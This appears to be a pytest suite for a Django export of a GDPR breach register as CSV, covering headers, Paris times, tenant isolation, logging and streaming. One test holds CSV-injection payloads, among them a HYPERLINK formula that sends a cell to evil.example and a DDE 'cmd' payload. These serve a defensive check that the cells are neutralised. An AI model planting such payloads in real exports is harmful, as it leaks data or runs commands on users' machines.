"""The Art. 33(5) breach register as CSV: one row per case of the user's organisations, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import SecurityEvent
from cases import register, services
from cases.models import DataCategory, Membership, Obligation
from tests.conftest import paris

URL = "/register.csv"


def body(response) -> bytes:
    """The whole file: the register is streamed, never built in memory."""
    assert response.streaming, "the register is a streaming response"
    if not hasattr(response, "read_back"):  # a stream is read once; parse() may be called again
        response.read_back = b"".join(response.streaming_content)
    return response.read_back


def parse(response) -> list[list[str]]:
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    text = content.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def as_dicts(response) -> list[dict[str, str]]:
    header, *rows = parse(response)
    keys = [c.key for c in register.COLUMNS]
    assert len(header) == len(keys)
    return [dict(zip(keys, r, strict=True)) for r in rows]


def test_the_url_is_named():
    assert reverse("cases:register_csv") == URL


def test_one_row_per_case_with_french_headers_and_paris_times(org, dpo, open_case, login):
    org.siren = "123456789"
    save_audited(org)
    first = open_case(
        breach_confidentiality=True,
        data_categories=[DataCategory.NIR, DataCategory.IDENTITY],
        subject_categories=["members"],
        persons_approx=33_000,
        description="Identifiants d'un praticien utilisés ; données lues.",
    )
    second = open_case(title="Courriel mal adressé", aware_at=paris(2024, 7, 1, 10, 30))

    response = login(dpo).get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="registre-violations-')
    header, *rows = parse(response)
    assert header == register.headers("fr")
    assert header[:4] == ["Référence", "Organisme", "SIREN", "Intitulé"]
    assert "Prise de connaissance (art. 33(1))" in header and "Motifs du retard" in header
    assert len(rows) == 2
    by_ref = {r["reference"]: r for r in as_dicts(response)}
    row = by_ref[first.reference]
    assert row["organisation"] == "Mutuelle Exemple"
    assert row["siren"] == "123456789"
    assert row["status"] == "Ouvert"
    assert row["first_signal_at"] == "2024-02-01 09:00"
    assert row["aware_at"] == "2024-02-01 18:00"
    assert row["confidentiality"] == "Oui" and row["integrity"] == "Non"
    assert row["data_categories"] == "Numéro de sécurité sociale (NIR); État civil, identité (nom, date de naissance)"
    assert row["persons_approx"] == "33000"
    assert row["description"] == "Identifiants d'un praticien utilisés ; données lues."
    assert row["cnil_due_at"] == "2024-02-04 18:00"
    assert row["cnil_notified_at"] == ""
    assert row["communications_sent"] == "0"
    # Summer time: 10:30 in Paris is 08:30 UTC, written as Paris wall clock.
    assert by_ref[second.reference]["aware_at"] == "2024-07-01 10:30"


def save_audited(org):
    from django.db import transaction

    with transaction.atomic():
        org.save()


def test_english_headers_when_the_active_language_is_english(org, dpo, open_case, login):
    open_case(breach_integrity=True)
    client = login(dpo)
    response = client.get(URL, HTTP_ACCEPT_LANGUAGE="en")
    header, row = parse(response)
    assert header == register.headers("en")
    assert header[:4] == ["Reference", "Organisation", "SIREN", "Title"]
    values = dict(zip([c.key for c in register.COLUMNS], row, strict=True))
    assert values["status"] == "Open" and values["integrity"] == "Yes"


def test_decisions_cnil_notification_delay_reason_and_communications(org, dpo, open_case, login):
    case = open_case(severity_ei="1.00", data_categories=["health"], severity_cb_confidentiality="0.50")
    services.decision_notify_authority(case, notify=True, reason="Données de santé exposées.", acting_user=dpo)
    cnil = case.obligations.get(rule_code="GDPR_33_1")
    services.filing_record(
        case,
        kind="cnil_initial",
        sent_at=paris(2024, 2, 5, 10, 0),
        obligation=cnil,
        reference="CNIL-2024-000123",
        late_reason="Périmètre inconnu avant l'analyse des journaux.",
        acting_user=dpo,
    )
    services.decision_inform_persons(case, inform=True, reason="Risque élevé.", acting_user=dpo)
    services.member_communication_record(
        case,
        channel="letter",
        sent_at=paris(2024, 2, 9, 9),
        recipients_count=10,
        text="Madame, Monsieur…",
        late_reason="Adresses à consolider.",
        acting_user=dpo,
    )

    (row,) = as_dicts(login(dpo).get(URL))

    assert row["notify_authority"] == "Oui"
    assert row["notify_authority_reason"] == "Données de santé exposées."
    assert row["notify_authority_decided_by"] == "dpo"
    assert row["notify_authority_decided_at"] != ""
    assert row["cnil_notified_at"] == "2024-02-05 10:00"
    assert row["cnil_reference"] == "CNIL-2024-000123"
    assert row["cnil_late_reason"] == "Périmètre inconnu avant l'analyse des journaux."
    assert row["inform_persons"] == "Oui" and row["inform_persons_decided_by"] == "dpo"
    assert row["communications_sent"] == "1"
    assert row["severity_score"] and "," in row["severity_score"]  # French decimal mark
    assert row["severity_level"] in {"Élevé", "Très élevé"}


def test_a_notification_set_aside_is_not_reported_as_notified(org, dpo, open_case, login):
    case = open_case()
    services.decision_notify_authority(
        case, notify=False, reason="Données chiffrées, risque improbable.", acting_user=dpo
    )
    assert case.obligations.get(rule_code="GDPR_33_1").state == Obligation.State.NOT_APPLICABLE
    (row,) = as_dicts(login(dpo).get(URL))
    assert row["notify_authority"] == "Non"
    assert row["notify_authority_reason"] == "Données chiffrées, risque improbable."
    assert row["cnil_notified_at"] == ""


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+1", "-2", "@SUM(A1:A9)", "=1+1", " =cmd|' /C calc'!A0"],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(org, dpo, open_case, login, payload):
    open_case(title=payload.strip() or payload, description=payload, measures_long=payload)
    (row,) = as_dicts(login(dpo).get(URL))
    for key in ("title", "description", "measures_long"):
        assert row[key].startswith("'"), (key, row[key])
        assert row[key][1:].strip() == payload.strip()


@pytest.mark.parametrize("value", ["\t=1", "\r=1", "=1", "+33 6", "-", "@", "\n=1"])
def test_neutralise_prefixes_every_trigger(value):
    assert register.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Fuite", "2024-02-01 18:00", "33000", "1 = 1", "a-b", "'quoted"])
def test_neutralise_leaves_ordinary_cells_alone(value):
    assert register.neutralise(value) == value


def test_another_organisation_is_never_included_even_when_asked_for(org, dpo, open_case, make_org, make_user, login):
    mine = open_case(title="Notre dossier")
    other = make_org(name="Autre mutuelle", code="autre")
    other_dpo = make_user(other, Membership.Role.DPO, "autre-dpo")
    theirs = open_case(title="CANARY-AUTRE", organization=other, acting_user=other_dpo)
    client = login(dpo)

    body_text = body(client.get(URL)).decode("utf-8-sig")
    assert mine.reference in body_text
    assert theirs.reference not in body_text and "CANARY-AUTRE" not in body_text
    assert client.get(URL + "?organization=autre").status_code == 404
    assert client.get(URL + "?organization=nope").status_code == 404


def test_the_organization_filter_keeps_one_of_the_user_s_organisations(org, dpo, open_case, make_org, login):
    second_org = make_org(name="Filiale", code="filiale")
    services.membership_grant(user=dpo, organization=second_org, role=Membership.Role.DPO, acting_user=None)
    a = open_case()
    b = open_case(organization=second_org, title="Dossier de la filiale")
    client = login(dpo)

    both = {r["reference"] for r in as_dicts(client.get(URL))}
    assert both == {a.reference, b.reference}
    only = as_dicts(client.get(URL + "?organization=filiale"))
    assert [r["reference"] for r in only] == [b.reference]
    assert only[0]["organisation"] == "Filiale"


def test_an_inactive_membership_exports_nothing_of_that_organisation(org, open_case, make_user, login):
    open_case(title="CANARY-INACTIVE")
    former = make_user(org, Membership.Role.AUDITOR, "ancien")
    membership = Membership.objects.get(user=former)
    membership.is_active = False
    save_audited(membership)
    response = login(former).get(URL)
    assert response.status_code == 200
    assert len(parse(response)) == 1  # the header only
    assert login(former).get(URL + "?organization=mutex").status_code == 404


def test_an_auditor_exports_and_the_export_is_logged(org, open_case, make_user, login):
    open_case()
    auditor = make_user(org, Membership.Role.AUDITOR, "auditeur")
    response = login(auditor).get(URL)
    assert response.status_code == 200
    event = SecurityEvent.objects.get(kind=SecurityEvent.Kind.EXPORT, user=auditor)
    assert event.organization == org
    assert "breach register CSV (1 cases" in event.detail


def test_one_log_line_per_organisation_exported(org, dpo, make_org, login):
    second_org = make_org(name="Filiale", code="filiale")
    services.membership_grant(user=dpo, organization=second_org, role=Membership.Role.DPO, acting_user=None)
    login(dpo).get(URL)
    logged = set(
        SecurityEvent.objects.filter(kind=SecurityEvent.Kind.EXPORT).values_list("organization__code", flat=True)
    )
    assert logged == {"mutex", "filiale"}


def test_login_and_second_factor_are_required_and_post_is_refused(org, dpo, open_case, login):
    open_case()
    anonymous = Client().get(URL)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith(reverse("accounts:login"))
    unverified = Client()
    unverified.force_login(dpo)
    response = unverified.get(URL)
    assert response.status_code == 302 and "login" not in response["Location"]
    assert b"Mutuelle" not in response.content
    assert login(dpo).post(URL).status_code == 405


def test_the_query_count_does_not_grow_with_the_number_of_cases(
    org, dpo, open_case, login, django_assert_max_num_queries
):
    client = login(dpo)
    open_case()
    # Session, user, OTP device, organisations, the count per organisation, the security-log row, and
    # every case in one query (read while the file is streamed, so consumed inside the block).
    with django_assert_max_num_queries(7) as small:
        assert len(parse(client.get(URL))) == 2
    small_count = len(small.captured_queries)  # read now: a later request clears the log
    for n in range(25):
        case = open_case(title=f"Dossier {n}", subject_categories=["members"])
        services.decision_notify_authority(case, notify=True, reason="Risque.", acting_user=dpo)
        services.member_communication_record(
            case,
            channel="email",
            sent_at=paris(2024, 2, 9, 9),
            recipients_count=3,
            text="Bonjour",
            late_reason="Adresses à consolider.",
            acting_user=dpo,
        )
    with django_assert_max_num_queries(small_count) as large:
        assert len(parse(client.get(URL))) == 27
    assert len(large.captured_queries) == small_count


def _in_memory_csv(cases, lang: str) -> bytes:
    """The register file as it was written before streaming: the whole text in one buffer, encoded once."""
    from django.utils import translation

    with translation.override(lang):
        out = io.StringIO()
        out.write(register.BOM)
        writer = csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        writer.writerow(register.headers(lang))
        for case in cases:
            writer.writerow(register.row(case, lang))
        return out.getvalue().encode("utf-8")


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_the_streamed_file_has_the_same_bytes_as_the_file_built_in_memory(org, dpo, open_case, login, lang):
    for n in range(7):
        case = open_case(title=f"Dossier n° {n} — accès =1", description="Données ; « lues »\nsur deux lignes")
        if n % 2:
            services.decision_notify_authority(case, notify=True, reason="Risque élevé.", acting_user=dpo)
    expected = _in_memory_csv(list(register.register_cases([org])), lang)

    streamed = login(dpo).get(URL, HTTP_ACCEPT_LANGUAGE=lang)
    assert body(streamed) == expected
    # Chunk boundaries (here every 2 rows, and 1) never change a byte, and the chunks are many.
    for size in (1, 2, 3):
        chunks = list(register.iter_csv(register.register_cases([org]).iterator(chunk_size=2), lang, chunk_rows=size))
        assert b"".join(chunks) == expected
        assert len(chunks) == -(-7 // size)  # the header travels with the first rows


def _neutralise_as_written_first(cell: str) -> str:
    """The rule as first written, before the fast path for ordinary cells."""
    if cell.startswith(register.FORMULA_TRIGGERS) or cell.lstrip().startswith(register.FORMULA_TRIGGERS):
        return "'" + cell
    return cell


@pytest.mark.parametrize(
    "value",
    ["", " ", "x", " =1", "\u00a0=1", "\u2003+1", " \t-1", "\x0b@", " Fuite", "é=", "1", "=", "\ufeff=1", "\n"],
)
def test_the_fast_path_of_neutralise_decides_as_the_rule_does(value):
    assert register.neutralise(value) == _neutralise_as_written_first(value)


def test_the_cnil_notification_is_read_by_one_join_not_a_subquery_per_column(org):
    """Four correlated subqueries (one per CNIL column) made the plan of 10,000 cases costly enough for PostgreSQL
    to compile it before running it; the columns now come from one join on the case's CNIL obligation."""
    sql = str(register.register_cases([org]).query)
    assert sql.count("SELECT") == 2, sql  # the cases, and the count of communications sent
    assert sql.count('"cases_obligation"') <= 2, sql


def test_the_register_s_ids_come_in_its_order_without_its_joins(org, open_case):
    for title in ("B", "A", "C"):
        open_case(title=title)
    ids = register.register_case_ids([org])
    assert list(ids) == [case.pk for case in register.register_cases([org])]
    assert '"cases_obligation"' not in str(ids.query)  # the API's page of ids joins no obligation
